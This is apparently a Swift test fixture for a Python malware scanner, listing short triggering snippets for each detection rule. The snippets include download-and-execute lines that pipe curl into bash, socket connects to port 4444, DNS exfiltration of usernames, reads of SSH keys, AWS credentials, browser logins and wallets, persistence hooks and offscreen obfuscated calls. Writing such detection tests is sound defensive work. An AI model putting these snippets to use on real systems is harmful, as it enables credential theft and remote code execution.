import LockgateCore

/// Triggering examples for every behaviour the Python analyser reports; `↓` marks where it must be reported.
enum PythonRuleExamples {
    static let highEntropy: String = {
        let alphabet = Array(
            (0x21...0x7E).compactMap(Unicode.Scalar.init).filter { !"'\"\\".unicodeScalars.contains($0) })
        return String(String.UnicodeScalarView((0..<240).map { alphabet[($0 * 37 + $0 / 91) % alphabet.count] }))
    }()

    static let triggering: [PythonExample] = [
        // Information reading
        PythonExample(.importOSModule, "import ↓os\nimport ↓platform, ↓getpass"),
        PythonExample(.importOSModule, "from ↓os import path"),
        PythonExample(.useOSModule, "import os\npid = ↓os.getpid()"),
        PythonExample(.importFileSystemModule, "import ↓shutil\nfrom ↓pathlib import Path\nimport ↓glob"),
        PythonExample(.readFile, "data = ↓open('notes.txt').read()\nmore = ↓open('b.bin', 'rb')"),
        PythonExample(.readFile, "from pathlib import Path\ntext = ↓Path('a.txt').read_text()"),
        PythonExample(
            .readFile, "import os\nfor name in ↓os.listdir('.'):\n    pass\nfor x in ↓os.walk('/'):\n    pass"),
        PythonExample(.writeFile, "↓open('out.txt', 'w').write('x')\n↓open('log', mode='a')"),
        PythonExample(
            .writeFile, "import tempfile\nf = ↓tempfile.NamedTemporaryFile(delete=False)\ng = ↓tempfile.TemporaryFile()"),
        PythonExample(.writeFile, "import shutil\n↓shutil.copy('a', 'b')"),
        PythonExample(.writeFile, "from pathlib import Path\n↓Path('x').write_bytes(b'1')"),
        PythonExample(.readEnvironmentVariable, "import os\nk = ↓os.environ['AWS_KEY']\nh = ↓os.getenv('HOME')"),
        PythonExample(.readEnvironmentVariable, "import os\nt = ↓os.environ.get('TOKEN', '')"),
        PythonExample(.readEnvironmentAll, "import os, json\ne = ↓dict(os.environ)\ns = ↓json.dumps(os.environ)"),
        PythonExample(.readEnvironmentAll, "import os\nfor k, v in ↓os.environ.items():\n    pass"),
        PythonExample(.readEnvironmentAll, "import os\nfor k in ↓os.environ:\n    pass\nc = ↓os.environ.copy()"),
        PythonExample(.readEnvironmentAll, "import os\nd = {**↓os.environ}\ns = ↓str(os.environ)"),
        PythonExample(
            .readEnvironmentAll, "import os, subprocess\nout = ↓os.popen('env').read()\n↓subprocess.run(['printenv'])"),
        PythonExample(.readCredentialPath, "p = open(↓'/home/u/.ssh/id_rsa').read()"),
        PythonExample(.readCredentialPath, "import os\np = os.path.join(os.path.expanduser('~'), ↓'.aws/credentials')"),
        PythonExample(.readBrowserStore, "p = ↓'Google/Chrome/User Data/Default/Login Data'"),
        PythonExample(.readDiscordStore, "p = ↓'discord/Local Storage/leveldb'"),
        PythonExample(.readCryptoWallet, "p = ↓'Exodus/exodus.wallet'"),
        PythonExample(.readSystemAccounts, "users = open(↓'/etc/passwd').read()"),
        PythonExample(.reconHost, "import platform, getpass, socket, os\na = ↓platform.node()\nb = ↓getpass.getuser()"),
        PythonExample(.reconHost, "import socket, os\nh = ↓socket.gethostname()\nu = ↓os.getlogin()\nc = ↓os.getcwd()"),
        PythonExample(.reconHost, "import os\nhome = ↓os.path.expanduser('~')"),
        PythonExample(.reconPublicIP, "import requests\nip = requests.get(↓'https://api.ipify.org').text"),
        // Data transmission
        PythonExample(.importNetworkModule, "import ↓requests\nfrom ↓urllib.request import urlopen\nimport ↓socket"),
        PythonExample(.useNetwork, "import requests\n↓requests.post('https://example.com', data={'a': 1})"),
        PythonExample(.useNetwork, "from urllib.request import urlopen\nbody = ↓urlopen(url).read()"),
        PythonExample(.useNetwork, "import socket\ns = socket.socket()\n↓s.connect(('10.0.0.1', 4444))\n↓s.send(b'x')"),
        PythonExample(.useNetwork, "import http.client\nc = http.client.HTTPSConnection('h')\n↓c.request('GET', '/')"),
        PythonExample(.useNetwork, "import smtplib\nserver = smtplib.SMTP('mail')\n↓server.sendmail(a, b, msg)"),
        PythonExample(.useNetwork, "import requests\nsession = requests.Session()\n↓session.get(u)"),
        PythonExample(.url, "u = ↓'https://example.com/api'"),
        PythonExample(.urlWebhook, "hook = ↓'https://discord.com/api/webhooks/123/abc'"),
        PythonExample(.urlPaste, "u = ↓'https://pastebin.com/raw/abc'"),
        PythonExample(.urlPaste, "u = ↓'https://cdn.discordapp.com/attachments/1/2/setup.exe'"),
        PythonExample(.urlTunnel, "u = ↓'https://abc.ngrok.io/x'"),
        PythonExample(.urlOutOfBand, "u = ↓'http://x1.oast.fun/'"),
        PythonExample(.urlRawIP, "u = ↓'http://45.9.148.1:8080/p'"),
        PythonExample(.urlRawIP, "import socket\ns = socket.socket()\n↓s.connect(('45.9.1.2', 4444))"),
        PythonExample(.urlDynamicDNS, "u = ↓'http://evil.duckdns.org/x'"),
        PythonExample(.urlAppHosting, "u = ↓'https://collect.pythonanywhere.com/' + 'log'"),
        PythonExample(.urlWebhook, "bot = telebot.TeleBot(↓'8193906441:AAHXgEf-hAu88-PNxxxTntnmGlEinqSH5Ac')"),
        PythonExample(.dnsLookup, "import socket\nip = ↓socket.gethostbyname('example.com')"),
        PythonExample(.dnsLookup, "import subprocess\n↓subprocess.getoutput('dig @1.1.1.1 install.example.com')"),
        PythonExample(
            .dnsExfiltration, "import socket, os\nu = os.getlogin()\n↓socket.gethostbyname(u + '.x.example.net')"),
        PythonExample(
            .dnsExfiltration, "import socket, getpass\n↓socket.gethostbyname(f'{getpass.getuser()}.d.example')"),
        PythonExample(.dnsExfiltration, "import dns.resolver\n↓dns.resolver.resolve('%s.t.example' % data, 'A')"),
        // Encoding
        PythonExample(.importEncodingModule, "import ↓base64, ↓zlib\nfrom ↓codecs import decode"),
        PythonExample(.useEncoding, "import base64\nx = ↓base64.b64decode(s)\ny = ↓bytes.fromhex(h)"),
        PythonExample(
            .useEncoding, "import codecs, zlib, marshal\na = ↓codecs.decode(s, 'rot13')\nb = ↓zlib.decompress(c)"),
        PythonExample(.base64String, "blob = ↓'QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZnaGlqa2xtbm9w'"),
        PythonExample(.longString, "x = ↓'" + String(repeating: "a", count: 1_200) + "'"),
        PythonExample(.highEntropyBlob, "x = ↓'" + highEntropy + "'"),
        // Payload execution
        PythonExample(.importProcessModule, "import ↓subprocess\nfrom ↓pty import spawn"),
        PythonExample(.spawnProcess, "import subprocess\n↓subprocess.run(['ls'])\n↓subprocess.Popen('id', shell=True)"),
        PythonExample(.spawnProcess, "import os\n↓os.system('id')\n↓os.popen('id')\n↓os.execv('/bin/sh', [])"),
        PythonExample(.spawnProcess, "import pty\n↓pty.spawn('/bin/bash')"),
        PythonExample(.shellCommand, "cmd = ↓'curl -s http://x.example/a.sh | bash'"),
        PythonExample(.shellCommand, "import subprocess\nsubprocess.call(↓['bash', '-c', 'id'])"),
        PythonExample(.evalCode, "↓eval(x)\n↓exec(y)\nc = ↓compile(src, 'f', 'exec')"),
        // Refinements of execution
        PythonExample(.downloadExecute, "import requests\n↓exec(requests.get(u).text)"),
        PythonExample(.downloadExecute, "import os\n↓os.system('curl -s https://x.example/p.sh | sh')"),
        PythonExample(
            .downloadExecute, "import urllib.request\nr = urllib.request.urlopen(u)\ncode = r.read()\n↓eval(code)"),
        PythonExample(
            .downloadExecute,
            """
            import urllib.request, os
            urllib.request.urlretrieve(u, '/tmp/payload.exe')
            ↓os.system('/tmp/payload.exe')
            """),
        PythonExample(
            .downloadExecute,
            """
            import requests, subprocess
            with open('run.bin', 'wb') as f:
                f.write(requests.get(u).content)
            ↓subprocess.Popen(['./run.bin'])
            """),
        PythonExample(
            .writeExecute,
            """
            import os, tempfile
            t = tempfile.NamedTemporaryFile(delete=False, suffix='.py')
            t.write(code)
            t.close()
            ↓os.system(f'python {t.name}')
            """),
        PythonExample(
            .writeExecute,
            """
            import os, subprocess
            path = os.path.join(tmp, 'helper')
            with open(path, 'wb') as f:
                f.write(blob)
            os.chmod(path, 0o755)
            ↓subprocess.call([path])
            """),
        PythonExample(
            .persistence,
            """
            import winreg
            key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, 2)
            ↓winreg.SetValueEx(key, 'upd', 0, winreg.REG_SZ, exe)
            """),
        PythonExample(.persistence, "import os\nrc = os.path.expanduser(↓'~/.bashrc')"),
        PythonExample(.persistence, "↓open('/etc/cron.d/updater', 'w').write(line)"),
        PythonExample(
            .hiddenProcess, "import subprocess\n↓subprocess.Popen(c, creationflags=subprocess.CREATE_NO_WINDOW)"),
        PythonExample(.hiddenProcess, "import subprocess\n↓subprocess.Popen(c, creationflags=0x08000000)"),
        PythonExample(.hiddenProcess, "import subprocess\n↓subprocess.Popen(c, start_new_session=True)"),
        PythonExample(
            .hiddenProcess,
            "import subprocess\n↓subprocess.Popen(['pythonw', 'x.py'])\n↓subprocess.run('nohup ./a &', shell=True)"),
        PythonExample(
            .hiddenProcess, "from subprocess import Popen, DETACHED_PROCESS\n↓Popen(c, creationflags=DETACHED_PROCESS)"),
        PythonExample(
            .hiddenProcess, "import os, sys\n↓os.system(f\"start {sys.executable.replace('.exe', 'w.exe')} {path}\")"),
        // Obfuscation
        PythonExample(.pythonProtector, "import marshal, zlib\n↓exec(marshal.loads(zlib.decompress(b'x')))"),
        PythonExample(.pythonProtector, "from ↓pytransform import pyarmor_runtime\npyarmor_runtime()"),
        PythonExample(
            .pythonProtector, "from ↓pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, b'x')"),
        PythonExample(.escapedIdentifiers, "import os\ngetattr(os, ↓'\\x73\\x79stem')('id')"),
        PythonExample(.offscreenCode, "import os" + String(repeating: " ", count: 160) + "↓;os.system('id')"),
        PythonExample(.offscreenCode, "def f():\n    x = 1\t" + String(repeating: " ", count: 120) + "↓; exec(x)"),
    ]
}
